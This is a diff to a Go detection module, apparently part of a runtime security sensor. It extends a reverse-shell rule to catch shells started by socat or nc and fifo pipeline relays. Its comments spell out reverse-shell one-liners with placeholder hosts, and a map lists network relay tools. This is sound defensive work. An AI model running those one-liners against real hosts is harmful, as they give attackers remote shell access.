@@ -12,8 +12,11 @@ package detect
 // `os.dup2(s.fileno(), 0)` then `pty.spawn("sh")`. A legitimate service does not give a shell
 // a TCP socket as its terminal. Unix sockets (systemd hands them to services as stdout) and
 // pipes do not count; neither does `sh > file`, because the sensor checks the descriptor's
-// file type in the kernel. Not caught: relays through pipes (`mkfifo f; sh <f | nc H P >f`),
-// where the shell never touches the socket; the runtime-tool rule sees the nc.
+// file type in the kernel. Relays count too: a shell started by a network relay (socat, nc)
+// that holds a TCP connection (`socat tcp:H:P exec:sh,pty`, where the shell's stdio is a pty
+// the relay copies to the socket), and a relay that connects while a shell started by the same
+// parent runs (a pipeline: `mkfifo f; sh -i <f 2>&1 | nc H P >f`, where the shell never
+// touches the socket and neither process is the other's parent).
 
 import (
 	"cmp"
@@ -45,6 +48,9 @@ var reverseShellRule = finding.Register(finding.Rule{
 // interpreter matches script interpreters that are as good as a shell to an attacker.
 var interpreter = regexp.MustCompile(`^(python[0-9.]*|perl[0-9.]*|ruby[0-9.]*|php[0-9.]*|node|nodejs|lua[0-9.]*|tclsh[0-9.]*|irb|pwsh|expect)$`)
 
+// relays are the network tools that can run a program and copy its terminal to a socket.
+var relays = map[string]bool{"socat": true, "nc": true, "ncat": true, "netcat": true, "nc.traditional": true, "nc.openbsd": true}
+
 // isShell reports whether the binary is a shell or an interpreter, by file name.
 func isShell(binary string) bool {
 	name := path.Base(binary)
@@ -57,6 +63,9 @@ func isShell(binary string) bool {
 func init() { register(reverseShell) }
 
 func reverseShell(d *Detector, e *event.Event) []finding.Finding {
+	if e.Kind == event.KindConnect || e.Kind == event.KindAccept {
+		return pipelineRelay(d, e)
+	}
 	if e.Kind != event.KindExec || !isShell(e.Exec.Binary) {
 		return nil
 	}
@@ -76,7 +85,12 @@ func reverseShell(d *Detector, e *event.Event) []finding.Finding {
 			dup = cmp.Or(p.stdioDups[0], p.stdioDups[1])
 		}
 	}
-	if !stdinOrOut && dup == nil {
+	// A relay: the parent is socat or nc, with a connection open, and starts the shell.
+	var relay *process
+	if p, ok := d.procs[e.Process.PPID]; ok && p.conn != nil && relays[path.Base(p.binary)] {
+		relay = p
+	}
+	if !stdinOrOut && dup == nil && relay == nil {
 		return nil
 	}
 	var sock *event.Socket
@@ -85,9 +99,12 @@ func reverseShell(d *Detector, e *event.Event) []finding.Finding {
 	case stdinOrOut:
 		sock = x.StdioPeer
 		how = fmt.Sprintf("with %s connected to", joinWords(wired))
-	default:
+	case dup != nil:
 		sock = &dup.Socket
 		how = fmt.Sprintf("after fd %d (a socket) was duplicated onto fd %d, connected to", dup.OldFD, dup.NewFD)
+	default:
+		sock = relay.conn
+		how = fmt.Sprintf("by the network relay %s (pid %d), which relays it to", path.Base(relay.binary), relay.pid)
 	}
 	// One alert per session: the shells a reverse shell starts (its rc files, the attacker's
 	// subshells) inherit the socket and would each raise the same alert.
@@ -113,6 +130,9 @@ func reverseShell(d *Detector, e *event.Event) []finding.Finding {
 	}
 	if dup != nil {
 		f.Evidence["dup"] = dup
+	}
+	if relay != nil && !stdinOrOut && dup == nil {
+		f.Evidence["relay"] = processEvidence{PID: relay.pid, PPID: relay.ppid, Binary: relay.binary, Args: relay.args}
 	}
 	return []finding.Finding{f}
 }
@@ -146,4 +166,36 @@ func (d *Detector) inReverseShell(e *event.Event, key string) bool {
 		}
 	}
 	return false
+}
+
+// pipelineRelay handles a connection made by a relay (nc, socat): a live shell that is the
+// relay's sibling, started by the same parent, is wired to that connection through pipes.
+func pipelineRelay(d *Detector, e *event.Event) []finding.Finding {
+	relay, ok := d.procs[e.Process.PID]
+	if !ok || !e.Conn.Established || !relays[path.Base(relay.binary)] || e.Process.PPID <= 1 {
+		return nil
+	}
+	key := e.Conn.Local.String() + ">" + e.Conn.Remote.String()
+	var out []finding.Finding
+	for _, p := range d.procs {
+		if p.ppid != e.Process.PPID || p.pid == relay.pid || !isShell(p.binary) || p.reverseShell != "" {
+			continue
+		}
+		p.reverseShell = key
+		sock := e.Conn.Socket
+		msg := fmt.Sprintf("%s (pid %d, parent pid %d) runs in a pipeline with the network relay %s (pid %d), which connected it to %s %s (local %s)",
+			commandLine(p.binary, p.args), p.pid, p.ppid, path.Base(relay.binary), relay.pid, protocolName(&sock), sock.Remote, sock.Local)
+		f := reverseShellRule.New(resource(e.Origin), finding.Location{Node: e.Origin.Node, UID: e.Origin.PodUID}, msg)
+		f.Evidence = map[string]any{
+			"origin":  e.Origin,
+			"process": processEvidence{PID: p.pid, PPID: p.ppid, Binary: p.binary, Args: p.args},
+			"relay":   processEvidence{PID: relay.pid, PPID: relay.ppid, Binary: relay.binary, Args: relay.args},
+			"socket":  &sock,
+		}
+		if parent, ok := d.procs[p.ppid]; ok {
+			f.Evidence["parent"] = processEvidence{PID: parent.pid, PPID: parent.ppid, Binary: parent.binary, Args: parent.args}
+		}
+		out = append(out, f)
+	}
+	return out
 }
